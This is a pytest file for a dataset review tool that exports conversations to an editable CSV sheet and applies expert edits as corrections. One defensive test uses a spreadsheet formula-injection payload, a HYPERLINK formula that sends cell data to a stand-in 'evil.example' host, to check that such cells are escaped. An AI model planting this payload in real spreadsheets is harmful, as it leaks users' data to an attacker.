"""`tuneline review`: an editable sheet of the dataset whose edits become corrections."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from killing import kill_at
from test_curate import Repo, answer, many
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.commands import review
from pipeline.rows import corrections
from pipeline.rows.jsonl import read_jsonl


@pytest.fixture
def repo(tmp_path) -> Repo:
    r = Repo(tmp_path)
    r.write(r.paths.generated, many(12) + [
        answer("q-0100", "Why is NULL = NULL not true?", "Generated answer.",
               followup="And IS NULL?", followup_answer="Generated follow-up answer.",
               followup_finish_reason="stop")])
    r.run()
    return r


def sheet_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def edit(path: Path, rid: str, **cells: str) -> None:
    rows = sheet_rows(path)
    for row in rows:
        if row["id"] == rid:
            row.update(cells)
    if rid == "":
        rows.append({**{c: "" for c in review.COLUMNS}, **cells})
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=review.COLUMNS)
        writer.writeheader()
        writer.writerows(rows)


def export(repo: Repo) -> Path:
    sheet = repo.root / "review.csv"
    review.export(repo.paths.out, repo.paths.corrections, repo.paths.questions, sheet)
    return sheet


def apply(repo: Repo, sheet: Path) -> review.ApplyResult:
    return review.apply(sheet, repo.paths.corrections, repo.paths.out)


def correction_rows(repo: Repo) -> list[dict]:
    path = repo.paths.corrections
    return read_jsonl(path) if path.exists() else []


def test_applying_an_untouched_sheet_writes_nothing(repo):
    sheet = export(repo)
    assert len(sheet_rows(sheet)) == 13
    assert apply(repo, sheet).changed == []
    assert not repo.paths.corrections.exists()


def test_an_edited_answer_becomes_an_expert_row_after_curate(repo):
    sheet = export(repo)
    edit(sheet, "q-0100", answer="NULL means unknown, so = NULL is never true.")
    result = apply(repo, sheet)
    assert result.changed == ["q-0100 replace_answer (set)"]
    [row] = correction_rows(repo)
    assert row["action"] == "replace_answer" and row["question"] == "Why is NULL = NULL not true?"
    repo.run()
    fixed = repo.rows()["q-0100"]
    assert fixed["messages"][1]["content"] == "NULL means unknown, so = NULL is never true."
    assert fixed["messages"][3]["content"] == "Generated follow-up answer."
    assert fixed["source"] == "expert" and fixed["turn_sources"] == ["expert", "generated"]


def test_applying_the_same_sheet_twice_changes_nothing_the_second_time(repo):
    sheet = export(repo)
    edit(sheet, "q-0100", answer="Expert answer.", followup="How do I test for NULL?",
         followup_answer="Use IS NULL.")
    edit(sheet, "q-0003", action="drop")
    edit(sheet, "", question="What is a tablespace?", answer="A directory for data files.")
    assert len(apply(repo, sheet).changed) == 4
    first = repo.paths.corrections.read_bytes()
    assert apply(repo, sheet).changed == []
    assert repo.paths.corrections.read_bytes() == first
    corrections.load(repo.paths.corrections)  # every line is a valid correction
    repo.run()
    rows = repo.rows()
    assert "q-0003" not in rows
    assert [m["content"] for m in rows["q-0100"]["messages"]][2:] == [
        "How do I test for NULL?", "Use IS NULL."]
    assert any(r["messages"][0]["content"] == "What is a tablespace?" for r in rows.values())


def test_editing_the_sheet_again_replaces_the_earlier_correction(repo):
    sheet = export(repo)
    edit(sheet, "q-0100", answer="First try.")
    apply(repo, sheet)
    edit(sheet, "q-0100", answer="Second, better try.")
    apply(repo, sheet)
    assert [r["answer"] for r in correction_rows(repo)] == ["Second, better try."]


def test_changing_a_cell_back_removes_the_correction_this_sheet_made(repo):
    sheet = export(repo)
    edit(sheet, "q-0100", answer="Expert answer.")
    apply(repo, sheet)
    edit(sheet, "q-0100", answer="Generated answer.")
    assert apply(repo, sheet).changed == ["q-0100 replace_answer (removed)"]
    assert correction_rows(repo) == []


def test_a_fresh_export_shows_the_expert_text_and_keeps_it(repo):
    sheet = export(repo)
    edit(sheet, "q-0100", answer="Expert answer.")
    apply(repo, sheet)
    repo.run()
    fresh = export(repo)
    row = next(r for r in sheet_rows(fresh) if r["id"] == "q-0100")
    assert row["answer"] == "Expert answer." and row["source"] == "expert"
    assert apply(repo, fresh).changed == []
    assert len(correction_rows(repo)) == 1


def test_edits_survive_regeneration_and_untouched_rows_follow_it(repo):
    sheet = export(repo)  # exported before the answers are regenerated
    edit(sheet, "q-0100", answer="Expert answer.")
    regenerated = [answer("q-0001", "How do I configure subsystem1 number 7919?",
                          "Regenerated too.") if r["id"] == "q-0001" else r for r in many(12)]
    repo.write(repo.paths.generated, regenerated + [
        answer("q-0100", "Why is NULL = NULL not true?", "Regenerated answer.")])
    repo.run()
    result = apply(repo, sheet)
    assert result.changed == ["q-0100 replace_answer (set)"]
    assert any("regenerated" in n for n in result.notes)
    repo.run()
    rows = repo.rows()
    assert rows["q-0100"]["messages"][1]["content"] == "Expert answer."
    assert rows["q-0001"]["messages"][1]["content"] == "Regenerated too."  # never pinned


def test_dropping_and_undropping_through_the_sheet(repo):
    sheet = export(repo)
    edit(sheet, "q-0005", action="drop")
    apply(repo, sheet)
    repo.run()
    assert "q-0005" not in repo.rows()
    again = export(repo)
    dropped = next(r for r in sheet_rows(again) if r["id"] == "q-0005")
    assert dropped["action"] == "drop"
    edit(again, "q-0005", action="")
    assert apply(repo, again).changed == ["q-0005 drop (removed)"]
    repo.run()
    assert "q-0005" in repo.rows()


def test_an_edited_question_pins_the_whole_conversation(repo):
    sheet = export(repo)
    edit(sheet, "q-0100", question="Why is NULL = NULL unknown?", answer="Because NULL is unknown.")
    apply(repo, sheet)
    [row] = correction_rows(repo)
    assert row["action"] == "add_conversation" and len(row["messages"]) == 4
    repo.run()
    assert repo.rows()["q-0100"]["messages"][0]["content"] == "Why is NULL = NULL unknown?"


def test_a_followup_without_an_answer_is_refused_with_the_sheet_row(repo):
    sheet = export(repo)
    edit(sheet, "q-0100", followup_answer="")
    with pytest.raises(review.ReviewError, match=r"sheet row \d+ \(q-0100\): fill both"):
        apply(repo, sheet)
    assert not repo.paths.corrections.exists()  # nothing half-applied


def test_clearing_both_followup_cells_removes_the_followup(repo):
    sheet = export(repo)
    edit(sheet, "q-0100", followup="", followup_answer="")
    apply(repo, sheet)
    repo.run()
    assert len(repo.rows()["q-0100"]["messages"]) == 2


def test_unrelated_hand_written_lines_are_kept_byte_for_byte(repo):
    hand = '{"id": "q-0002", "action": "drop",   "note": "spacing kept"}\n'
    repo.paths.corrections.write_text(hand)
    sheet = export(repo)
    edit(sheet, "q-0100", answer="Expert answer.")
    apply(repo, sheet)
    assert repo.paths.corrections.read_text().splitlines()[0] == hand.strip()


def test_cli_export_and_apply(repo, monkeypatch):
    monkeypatch.chdir(repo.root)
    runner = CliRunner()
    args = ["--dataset", "dataset", "--corrections", "corrections.jsonl"]
    out = runner.invoke(app, ["review", "export", "--sheet", "s.csv", *args,
                              "--questions", "questions.jsonl"])
    assert out.exit_code == 0, out.output
    edit(Path("s.csv"), "q-0100", answer="Expert answer.")
    applied = runner.invoke(app, ["review", "apply", "--sheet", "s.csv", *args])
    assert applied.exit_code == 0 and "1 corrections changed" in applied.stdout
    assert json.loads(Path("corrections.jsonl").read_text())["answer"] == "Expert answer."


def test_line_separators_crlf_and_blank_lines_in_corrections_survive_an_edit(repo):
    # Text pasted from web pages, PDFs and Word holds U+2028, U+2029 and U+0085.
    pasted = {"id": "q-0001", "action": "replace_answer",
              "answer": "First part\u2028second part\u2029third\x85end."}
    hand = (json.dumps(pasted, ensure_ascii=False) + "\r\n\r\n"
            + '{"id": "q-0002", "action": "drop"}\r\n')
    repo.paths.corrections.write_bytes(hand.encode())
    sheet = export(repo)
    edit(sheet, "q-0100", answer="Expert answer.")
    assert apply(repo, sheet).changed == ["q-0100 replace_answer (set)"]
    data = repo.paths.corrections.read_bytes()
    assert data.startswith(hand.encode())  # untouched lines, CRLF and the blank line kept
    assert data.endswith(b"\r\n") and data.count(b"\r\n") == 4
    rows = correction_rows(repo)
    assert rows[0] == pasted and rows[2]["answer"] == "Expert answer."
    edit(sheet, "q-0100", answer="Second expert answer.")
    apply(repo, sheet)
    assert repo.paths.corrections.read_bytes().startswith(hand.encode())
    assert correction_rows(repo)[0] == pasted
    repo.run()  # curate still reads it


def test_formula_like_cells_are_escaped_and_round_trip_exactly(repo):
    risky = ["- first item\n- second item", "=SUM(A1:A2)", "+1 is the answer", "@mention",
             "'quoted' text", "'=already quoted"]
    repo.write(repo.paths.generated, many(8, start=50) + [
        answer(f"q-{i:04d}", f"How does risky case {i} of {i * 7919} work?", t)
        for i, t in enumerate(risky)])
    repo.run()
    sheet = export(repo)
    cells = {r["id"]: r["answer"] for r in sheet_rows(sheet)}
    assert all(cells[f"q-{i:04d}"] == "'" + t for i, t in enumerate(risky))
    assert apply(repo, sheet).changed == []  # the escape is not an edit
    edit(sheet, "q-0000", answer="'- edited item")
    assert apply(repo, sheet).changed == ["q-0000 replace_answer (set)"]
    assert correction_rows(repo)[0]["answer"] == "- edited item"
    repo.run()
    assert repo.rows()["q-0000"]["messages"][1]["content"] == "- edited item"
    assert export(repo) and apply(repo, sheet).changed == []


def test_a_spreadsheet_error_value_never_becomes_an_expert_answer(repo):
    sheet = export(repo)
    edit(sheet, "q-0100", answer="#NAME?")
    with pytest.raises(review.ReviewError, match=r"row \d+ \(q-0100\).*#NAME\?.*formula"):
        apply(repo, sheet)
    assert not repo.paths.corrections.exists()


def test_a_sheet_saved_as_windows_1252_is_refused_with_the_line(repo):
    sheet = export(repo)
    edit(sheet, "q-0100", answer="Caf\u00e9 answer.")
    text = sheet.read_text(encoding="utf-8-sig")
    sheet.write_bytes(text.encode("cp1252"))
    line = text[:text.index("Caf")].count("\n") + 1
    with pytest.raises(review.ReviewError, match=rf"review.csv:{line}: not UTF-8 .*CSV UTF-8"):
        apply(repo, sheet)
    assert not repo.paths.corrections.exists()


KILLED_APPLY = """
import os, sys, time
from pathlib import Path
from pipeline.commands import review
def replace_then_hang(src, dst):
    print("about to rename", flush=True)
    time.sleep(600)
os.replace = replace_then_hang
root = Path(sys.argv[1])
review.apply(root / "review.csv", root / "corrections.jsonl", root / "dataset")
"""


def test_sigkill_during_apply_keeps_corrections_and_rerun_matches_an_uninterrupted_apply(
        repo, tmp_path):
    import shutil

    repo.paths.corrections.write_text('{"id": "q-0002", "action": "drop"}\n')
    sheet = export(repo)
    edit(sheet, "q-0100", answer="Expert answer.")
    before = repo.paths.corrections.read_bytes()
    twin = tmp_path.parent / (tmp_path.name + "-twin")
    shutil.copytree(repo.root, twin)
    kill_at(KILLED_APPLY, str(repo.root), marker="about to rename\n")
    assert repo.paths.corrections.read_bytes() == before
    assert apply(repo, sheet).changed == ["q-0100 replace_answer (set)"]
    review.apply(twin / "review.csv", twin / "corrections.jsonl", twin / "dataset")
    assert repo.paths.corrections.read_bytes() == (twin / "corrections.jsonl").read_bytes()
    assert not [p for p in repo.root.iterdir() if p.name.endswith(".tmp")]  # cleaned up


def test_a_lone_carriage_return_in_a_cell_round_trips_exactly(repo):
    repo.write(repo.paths.generated, many(12) + [
        answer("q-0100", "Why is NULL = NULL not true?", "first\rsecond")])
    repo.run()
    assert repo.rows()["q-0100"]["messages"][1]["content"] == "first\rsecond"
    sheet = export(repo)
    rows = sheet_rows(sheet)
    assert len(rows) == 13  # the CR did not split the row in two
    assert next(r for r in rows if r["id"] == "q-0100")["answer"] == "first\rsecond"
    assert apply(repo, sheet).changed == []  # an unchanged sheet is a no-op
    edit(sheet, "q-0100", question="Why is NULL = NULL never true?")  # pins the whole row
    assert apply(repo, sheet).changed == ["q-0100 add_conversation (set)"]
    [row] = correction_rows(repo)
    assert [m["content"] for m in row["messages"]] == ["Why is NULL = NULL never true?",
                                                       "first\rsecond"]


def test_formula_like_ids_are_escaped_and_round_trip_exactly(repo):
    risky = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    repo.write(repo.paths.imports / "mine.jsonl", [{
        "id": risky, "source": "expert", "messages": [
            {"role": "user", "content": "How do I vacuum a table in place?"},
            {"role": "assistant", "content": "Run VACUUM on it."}]}])
    repo.run()
    assert risky in repo.rows()
    sheet = export(repo)
    text = sheet.read_text(encoding="utf-8-sig")
    assert "\n=HYPERLINK" not in text and "\n\"=HYPERLINK" not in text  # never a formula
    row = next(r for r in sheet_rows(sheet) if r["question"] == "How do I vacuum a table in place?")
    assert row["id"] == "'" + risky
    assert apply(repo, sheet).changed == []
    edit(sheet, "'" + risky, answer="Run VACUUM (FULL) on it.")
    assert apply(repo, sheet).changed == [f"{risky} replace_answer (set)"]
    assert correction_rows(repo)[0]["id"] == risky
    repo.run()
    assert repo.rows()[risky]["messages"][1]["content"] == "Run VACUUM (FULL) on it."


def test_two_new_rows_with_one_question_are_refused_naming_both(repo):
    sheet = export(repo)
    edit(sheet, "", question="What is a tablespace?", answer="A directory for data files.")
    edit(sheet, "", question="What is a tablespace?", answer="A second, different answer.")
    with pytest.raises(review.ReviewError, match=r"sheet row 15 and sheet row 16 .*same question"):
        apply(repo, sheet)
    assert not repo.paths.corrections.exists()


def test_a_new_row_never_replaces_an_added_conversation_with_the_same_question(repo):
    first = export(repo)
    edit(first, "", question="What is a tablespace?", answer="A directory for data files.")
    apply(repo, first)
    before = repo.paths.corrections.read_bytes()
    assert apply(repo, first).changed == []  # the same sheet again: nothing new
    second = export(repo)
    edit(second, "", question="What is a tablespace?", answer="Another expert's answer.")
    with pytest.raises(review.ReviewError, match=r"sheet row \d+.*corrections.jsonl:1.*same "
                                                 r"question"):
        apply(repo, second)
    assert repo.paths.corrections.read_bytes() == before


def test_an_old_sheet_never_overwrites_an_expert_answer_made_since(repo):
    old = repo.root / "old.csv"  # expert B exports, and edits later
    review.export(repo.paths.out, repo.paths.corrections, repo.paths.questions, old)
    sheet = export(repo)  # expert A edits q-0100, applies, and the dataset is rebuilt
    edit(sheet, "q-0100", answer="A's expert answer.")
    apply(repo, sheet)
    repo.run()
    before = repo.paths.corrections.read_bytes()
    edit(old, "q-0100", answer="B's answer.")
    with pytest.raises(review.ReviewError, match=r"row \d+ \(q-0100\): the answer was changed by "
                                                 r"an expert.*A's expert answer.*B's answer"):
        review.apply(old, repo.paths.corrections, repo.paths.out)
    assert repo.paths.corrections.read_bytes() == before
    fresh = export(repo)  # what the message says to do
    edit(fresh, "q-0100", answer="A's expert answer, and B's.")
    assert apply(repo, fresh).changed == ["q-0100 replace_answer (set)"]


def test_an_edited_question_keeps_the_current_text_of_cells_left_alone(repo):
    sheet = export(repo)  # exported before the answers are regenerated
    repo.write(repo.paths.generated, many(12) + [
        answer("q-0100", "Why is NULL = NULL not true?", "Regenerated answer.",
               followup="And IS NULL?", followup_answer="Generated follow-up answer.",
               followup_finish_reason="stop")])
    repo.run()
    edit(sheet, "q-0100", question="Why is NULL = NULL unknown?")
    apply(repo, sheet)
    [row] = correction_rows(repo)
    assert [m["content"] for m in row["messages"]][:2] == [
        "Why is NULL = NULL unknown?", "Regenerated answer."]  # not the older generated one
